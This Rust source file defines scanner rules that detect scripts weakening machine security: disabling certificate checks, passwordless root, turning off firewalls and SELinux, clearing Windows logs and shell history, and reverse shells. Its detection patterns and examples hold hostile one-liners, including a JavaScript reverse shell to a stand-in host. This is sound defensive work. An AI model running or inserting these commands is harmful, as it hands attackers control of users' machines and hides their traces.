//! Rules PA223–PA228 and PA232: weaker protection of the machine.

use crate::finding::{Family, FindingSeverity::*};
use crate::rule::{
    Matcher::*, Pattern, Rule, RuleScope::*, example, pattern, pattern_except, pattern_except_in_prose,
};

/// Connecting to another machine through a socket.
const CONNECTS: Pattern = pattern_except(
    "\
        socket,net.connect,net.socket,createconnection,tcpclient,fsockopen,net.dial,tcpstream,tcpsocket,\
        /inet/tcp",
    &[
        r"\.connect(_ex)?\s*\(\s*\(?|net\.(connect|createconnection)\s*\(|new\s+(net\.)?socket\s*\(|socket\.(create_connection|socket)\s*\(",
        r"sockets\.tcpclient\b|\bfsockopen\s*\(|\bnet\.dial(timeout)?\s*\(|tcpstream::connect|\btcpsocket\.(new|open)|/inet/tcp/|\bsocket\(\s*\w+\s*,\s*PF_INET",
    ],
    r"(connect\w*|dial\w*|socket|tcpclient|fsockopen|new|open)['\x22\s(]+[^)\n]*\b(localhost|127\.0\.0\.1)([^\w.-]|$)",
);

/// Giving a shell the other end of a connection.
const SHELL_STREAM: Pattern = pattern(
    "\
        dup2,spawn,exec,popen,/bin/sh,/bin/bash,cmd.exe,\"cmd\",proc_open,shell_exec,iex,\
        invoke-expression,exec.command,stdin=,command::new,redirectstandardinput",
    &[
        r"\bdup2\s*\(|\bpty\.spawn\s*\(|\b(spawn|exec|execfile|execl?v?p?)\s*\(\s*[\[(]*['\x22\x60](/bin/|/usr/bin/)?(ba|z|da)?sh['\x22\x60]\s*[,)\]]|\b(spawn|exec)\s*\(\s*['\x22\x60](cmd(\.exe)?|powershell(\.exe)?)['\x22\x60]",
        r"popen\s*\(\s*[\[(]?\s*['\x22](/bin/)?(ba)?sh['\x22].{0,120}std(in|out)\s*=\s*\w*sock|popen\s*\(\s*[\[(]?\s*['\x22](/bin/)?(ba)?sh['\x22]\s*,\s*['\x22]-i|proc_open\s*\(|io\.popen\s*\(|exec\.command\(\s*\x22(/bin/)?(ba)?sh\x22|command::new\(\s*\x22(/bin/)?(ba)?sh\x22",
        r"\b(iex|invoke-expression)\b.{0,40}\$\w+|exec\s*\(?\s*['\x22]/bin/(ba)?sh\s+-i|redirectstandardinput\s*=\s*\$?true",
    ],
);

/// Keywords of PA223 and PA224, which disable certificate checks.
const TLS_KEYWORDS: &str = "\
    node_tls_reject_unauthorized,sslverify,git_ssl_no_verify,pythonhttpsverify,strict-ssl,strictssl,\
    _create_unverified_context,servercertificatevalidationcallback,certificate,\
    .curlrc,stricthostkeychecking,trusted-host,gonosumdb,gonosumcheck,goinsecure";

/// Turning off certificate checks, in the configuration of the account or in its startup files.
const TLS_PERMANENT: &[&str] = &[
    r"git['\x22\s,]+config\s+.{0,20}--(global|system)['\x22\s,]+.{0,60}sslverify['\x22\s,=]+(false|0|off|no)\b|\b(npm|yarn|pnpm)['\x22\s,]+config['\x22\s,]+set['\x22\s,]+strict-?ssl['\x22\s,=]+(false|0)|\byarn\s+config\s+set\s+enablestrictssl\s+false",
    r"\b(node_tls_reject_unauthorized|pythonhttpsverify)\s*=\s*['\x22]?0.{0,40}>>|\bgit_ssl_no_verify\s*=\s*['\x22]?(1|true).{0,40}>>|\bsetx\s+(node_tls_reject_unauthorized|pythonhttpsverify)\s+0|setenvironmentvariable\(\s*['\x22](node_tls_reject_unauthorized|pythonhttpsverify)",
    r"\binsecure\b.{0,20}>>?\s*\S*\.curlrc|\bcheck_?-?certificate\s*=\s*off.{0,20}>>|\bhost\s+\*.{0,40}stricthostkeychecking\s+no.{0,120}>>|\bpip3?\s+config\s+set\s+\S*trusted-host\s",
];

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "PA223",
        family: Family::Code,
        severity: High,
        title: "permanently disables certificate checks",
        reason: "anyone on the network can then read and change what the user downloads and sends",
        help: "do not run it; add the certificate of the proxy or server instead",
        scope: Any,
        matcher: Line(pattern(TLS_KEYWORDS, TLS_PERMANENT)),
        example: example("scripts/a.sh", "#!/bin/sh\ngit config --global http.sslVerify false\n"),
    },
    Rule {
        id: "PA224",
        family: Family::Code,
        severity: Medium,
        title: "disables certificate checks",
        reason: "anyone on the network can then read and change the traffic",
        help: "add the certificate of the proxy or server instead",
        scope: Code,
        matcher: Line(pattern_except(
            TLS_KEYWORDS,
            &[
                r"(export|\$env:|env\s|process\.env\.|environ\[['\x22])\s*(node_tls_reject_unauthorized|pythonhttpsverify)['\x22\]]*\s*=\s*['\x22]?0|(export|\$env:)\s*git_ssl_no_verify\s*=",
                r"ssl\._create_default_https_context\s*=\s*ssl\._create_unverified_context|servercertificatevalidationcallback\s*=\s*\{?\s*\$?\{?\s*\$?true|^\s*strict-ssl\s*=\s*false",
                r"\bexport\s+go(nosumdb|nosumcheck|insecure)\s*=\s*['\x22]?(\*|1)",
            ],
            r"\b(localhost|127\.0\.0\.1)([^\w.-]|$)",
        )),
        example: example("scripts/a.sh", "#!/bin/sh\nexport NODE_TLS_REJECT_UNAUTHORIZED=0\n"),
    },
    Rule {
        id: "PA225",
        family: Family::Code,
        severity: High,
        title: "gives root rights without a password",
        reason: "every program of the user can then control the whole machine",
        help: "do not run it; check /etc/sudoers.d and programs with the setuid bit",
        scope: Code,
        matcher: Line(pattern_except(
            "nopasswd,sudoers,u+s,install ,chmod,docker.sock,setuid,pam_permit,cap_setuid,administrators",
            &[
                r"nopasswd\s*:\s*all.{0,60}(>>?|tee\s+(-a\s+)?)\s*['\x22]?/etc/sudoers|(write\w*|open|echo|printf|tee|>)\b.{0,80}(sudoers.{0,120}nopasswd\s*:|nopasswd\s*:.{0,120}sudoers)|(>>?|tee\s+(-a\s+)?)\s*['\x22]?/etc/sudoers(\.d/\S+)?\s*<<",
                r"\binstall\s+(-\S+\s+)*-m\s*[246][0-7]{3}\s.{0,40}/(ba|z|da)?sh\b|chmod\s+(-\w+\s+)?([ugo]*\+[rwx]*s[\w,+=]*|[246][0-7]{3})\s+['\x22]?\S*(/(ba|z|da)?sh\b|shim|/tmp/|/usr/|/bin/|/opt/|/\.\w)|chmod\s+(-\w+\s+)*u\+s\b|chmod\s+(-r\s+|-R\s+)*(0?777|a\+rwx|ugo\+rwx)\s+['\x22]?/(etc|usr|var|bin|sbin|lib|opt|root)?/?(\s|$|['\x22;&])",
                r"chmod\s+(666|777|a\+rw|o\+rw)\s+\S*docker\.sock|setcap\s+\S*cap_setuid\S*\s|pam_permit\.so.{0,60}(>>?|tee|sed)|net\s+localgroup\s+administrators\s+\S+\s+/add",
            ],
            r"^\s*#|chrome-sandbox|chrome_sandbox",
        )),
        example: example(
            "scripts/a.sh",
            "#!/bin/sh\necho \"$USER ALL=(ALL) NOPASSWD: ALL\" | sudo tee /etc/sudoers.d/tool\n",
        ),
    },
    Rule {
        id: "PA226",
        family: Family::Code,
        severity: Medium,
        title: "disables the firewall or the access control of the system",
        reason: "the whole machine is less protected afterwards",
        help: "open only the port or path that is needed",
        scope: Code,
        matcher: Line(pattern(
            "\
                ufw,iptables,nft flush,firewalld,setenforce,selinux=,apparmor,aa-teardown,socketfilterfw,\
                pfctl,auditd,auditctl,fail2ban,falcon-sensor,rsyslog,clamav,aa-disable",
            &[
                r"\bufw\s+(--force\s+)?(disable|reset)\b|\biptables\s+(-F|--flush)(\s|$)|\biptables\s+-P\s+INPUT\s+ACCEPT|\bnft\s+flush\s+ruleset|\bpfctl\s+-d\b|socketfilterfw\s+--setglobalstate\s+off",
                r"\bsetenforce\s+(0|permissive)\b|selinux=(disabled|permissive)|\b(systemctl|service)\s+((stop|disable|mask)\s+(--now\s+)?)(\S+\s+)*(firewalld|apparmor|auditd|ufw|falcon-sensor|fail2ban|rsyslog|clamav\S*)|\bservice\s+(apparmor|auditd|ufw)\s+stop|\baa-(teardown|disable)\b|\bauditctl\s+-e\s*0",
            ],
        )),
        example: example("scripts/a.sh", "#!/bin/sh\nsudo setenforce 0\n"),
    },
    Rule {
        id: "PA232",
        family: Family::Code,
        severity: High,
        title: "disables the firewall and another protection of the system",
        reason: "no installation needs both; the whole machine is unprotected afterwards",
        help: "do not run it",
        scope: Code,
        matcher: Pair {
            first: pattern(
                "ufw,iptables,nft flush,firewalld,pfctl,setglobalstate",
                &[
                    r"\bufw\s+(--force\s+)?disable\b|\biptables\s+(-F|--flush|-P\s+INPUT\s+ACCEPT)|\bnft\s+flush\s+ruleset|\bpfctl\s+-d\b|setglobalstate\s+off|(stop|disable|mask)\s+(--now\s+)?firewalld",
                ],
            ),
            second: pattern(
                "setenforce,selinux=,apparmor,auditd,auditctl,fail2ban,rsyslog,spctl,csrutil",
                &[
                    r"\bsetenforce\s+(0|permissive)\b|selinux=(disabled|permissive)|(stop|disable|mask)\s+(--now\s+)?(\S+\s+)*(apparmor|auditd|fail2ban|rsyslog)|\bauditctl\s+-e\s*0|spctl\s+--(master|global)-disable|csrutil\s+disable",
                ],
            ),
            max_lines: 8,
        },
        example: example(
            "scripts/a.sh",
            "#!/bin/sh\nsudo iptables --flush INPUT; sudo systemctl stop --now snapd fail2ban\n",
        ),
    },
    Rule {
        id: "PA227",
        family: Family::Code,
        severity: High,
        title: "disables a protection of Windows, or deletes the logs and the history of the system",
        reason: "this hides what happened, or lets unwanted programs run",
        help: "do not run it",
        scope: Any,
        matcher: Line(pattern_except_in_prose(
            "\
                advfirewall,netfirewallprofile,enablelua,disableantispyware,auditpol,wevtutil,\
                clear-eventlog,eventlog,histfile,history -c,_history,/var/log/,\
                historysavepath,vssadmin,amsi,consentpromptbehavioradmin,bcdedit,--vacuum-time,\
                histsize=0,histfilesize=0",
            &[
                r"\badvfirewall\s+set\s+\w+\s+state\s+off|set-netfirewallprofile\b.{0,80}-enabled\s+(\$?false|0)|\b(enablelua|consentpromptbehavioradmin)\b.{0,60}(-value|/d)\s+0|disableantispyware\b.{0,60}(-value|/d)\s+1|amsiutils|amsiinitfailed|amsiscanbuffer",
                r"\bauditpol(\.exe)?\s+/(clear|set.{0,60}/(success|failure):disable)|\bwevtutil(\.exe)?\s+(cl|clear-log)\s|\bclear-eventlog\b|\b(stop-service|sc(\.exe)?\s+stop|net\s+stop)\s+['\x22]?eventlog|vssadmin(\.exe)?\s+delete\s+shadows|bcdedit\b.{0,60}recoveryenabled\s+no",
                r"\bhistory\s+-c\b|\bhist(file)?size=0\b|\bunset\s+histfile\b|\bhistfile=/dev/null|\b(rm|shred|truncate|unlink)\s+.{0,40}\.(bash|zsh|python)_history|>\s*['\x22]?(~|\$home)/\.(bash|zsh)_history|ln\s+-s\w*\s+/dev/null\s+\S*_history",
                r"(\b(rm|shred|truncate)\s+(-\S+\s+)*|[^2&>]>\s*)['\x22]?/var/log/(auth|secure|audit|wtmp|btmp|lastlog|syslog|messages|\*)|(remove-item|clear-content|del)\b.{0,80}(historysavepath|consolehost_history)|journalctl\s+.{0,40}--vacuum-time=1s",
            ],
            r"detect|\bmalware\b|attacker",
        )),
        example: example("scripts/a.ps1", "wevtutil cl Security\n"),
    },
    Rule {
        id: "PA228",
        family: Family::Code,
        severity: Critical,
        title: "connects a shell to a network socket",
        reason: "it gives another machine full control over the user's account",
        help: "do not run it",
        scope: Code,
        matcher: Pair { first: CONNECTS, second: SHELL_STREAM, max_lines: 12 },
        example: example(
            "scripts/a.js",
            "const client = net.connect(4444, \"peer.collect.example\");\nconst sh = cp.spawn(\"/bin/sh\", []);\nclient.pipe(sh.stdin);\n",
        ),
    },
];
